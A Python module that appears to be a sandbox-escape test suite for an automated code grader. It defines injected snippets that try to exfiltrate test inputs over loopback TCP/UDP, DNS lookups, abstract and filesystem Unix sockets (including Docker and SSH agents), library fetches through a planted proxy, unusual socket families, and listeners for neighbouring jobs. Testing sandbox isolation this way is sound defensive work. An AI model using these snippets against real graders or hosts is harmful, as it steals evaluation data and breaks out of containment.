"""Attacks over the network: send out what was seen, or fetch the answers."""

from __future__ import annotations

from attackers.attack import attack, in_every_answer, in_one_answer


@attack()
def tcp_to_the_listener():
    """Connect to a listener of whoever grades on the loopback and send it the inputs of the cases:
    arrived in nbgrader's run (grading.md §3, a11)."""
    return in_every_answer("""
        import socket
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"),
                             (socket.AF_INET, "0.0.0.0")):
            try:
                with socket.socket(family, socket.SOCK_STREAM) as line:
                    line.settimeout(0.5)
                    line.connect((host, PORT))
                    line.sendall(b"stolen inputs")
                    loot = "sent"
            except OSError:
                continue
    """)


@attack()
def udp_and_dns():
    """Datagrams need no connection and a name looked up carries data to whoever runs its zone."""
    return in_every_answer("""
        import socket
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                line.sendto(b"stolen inputs", ("127.0.0.1", PORT))
                line.sendto(b"stolen inputs", ("255.255.255.255", PORT))
                loot = "sent"
        except OSError:
            pass
        socket.setdefaulttimeout(0.5)
        try:
            loot = [loot, socket.getaddrinfo("stolen-inputs.localhost", PORT)[0][4][0]]
        except OSError:
            pass
    """)


@attack()
def abstract_unix_socket():
    """Abstract Unix sockets belong to no folder, so hiding the file system does not hide them; only a
    network namespace, or Landlock from ABI 6, does. D-Bus, X11 and containers listen on such."""
    return in_every_answer("""
        import socket
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_UNIX, kind) as line:
                    line.settimeout(0.5)
                    line.connect(SOCKET)
                    line.send(b"stolen inputs")
                    loot = "sent"
            except OSError:
                continue
    """)


@attack()
def unix_socket_in_a_folder():
    """A socket that lies in the file system: the agents of ssh and gpg, Docker, the system bus. Docker's
    gives the whole machine away."""
    return in_every_answer("""
        import glob, socket
        places = [HOME + "/agent.socket", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
                  *glob.glob("/tmp/*/agent*"), *glob.glob("/run/user/*/bus")]
        for place in places:
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
                    line.settimeout(0.5)
                    line.connect(place)
                    line.sendall(b"stolen inputs")
                    loot = "sent"
            except OSError:
                continue
    """)


@attack()
def libraries_that_fetch():
    """Libraries open connections by themselves: urllib, pandas' readers of addresses, DuckDB with
    httpfs, pip, http.client through a proxy named in the environment."""
    return in_one_answer("""
        import http.client, os, urllib.request
        import duckdb, pandas as pd
        if os.path.exists("tried"):
            return "every way was tried on the first case"
        open("tried", "w").close()
        os.environ["http_proxy"] = f"http://127.0.0.1:{PORT}"
        address = f"http://127.0.0.1:{PORT}/stolen-inputs"
        for fetch in (
            lambda: urllib.request.urlopen(address, timeout=0.5).read(),
            lambda: urllib.request.urlopen("http://example.invalid/", timeout=0.5).read(),
            lambda: pd.read_csv(address),
            lambda: pd.read_json(address),
            lambda: duckdb.sql(f"INSTALL httpfs; LOAD httpfs; FROM read_csv('{address}')").df(),
            lambda: http.client.HTTPConnection("127.0.0.1", PORT, timeout=0.5).request("GET", "/"),
        ):
            try:
                loot = [loot, str(fetch())[:50]]
            except BaseException:
                continue
    """)


@attack()
def unusual_sockets():
    """Families that filters forget: netlink, packet and raw sockets, vsock to the machine's host,
    ALG, Bluetooth, and io_uring, which connects without calling connect."""
    return in_every_answer("""
        import socket
        opened = []
        for family in range(46):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
                try:
                    with socket.socket(family, kind) as line:
                        opened.append([family, int(kind)])
                        if family == 40:
                            line.settimeout(0.5)
                            line.connect((2, PORT))
                except (OSError, TypeError, ValueError):
                    continue
        loot = opened
    """)


@attack()
def listening_for_neighbours():
    """Listen on the loopback and in the abstract name space, so that a neighbour's job, or whoever
    grades, connects to the attacker."""
    return in_every_answer("""
        import socket
        kept = globals().setdefault("KEPT_LISTENERS", [])
        for family, address in ((socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_UNIX, "\\0neighbour")):
            try:
                line = socket.socket(family, socket.SOCK_STREAM)
                line.bind(address)
                line.listen()
                kept.append(line)
                line.settimeout(0.5)
                loot = [loot, str(line.accept())]
            except OSError:
                continue
    """)
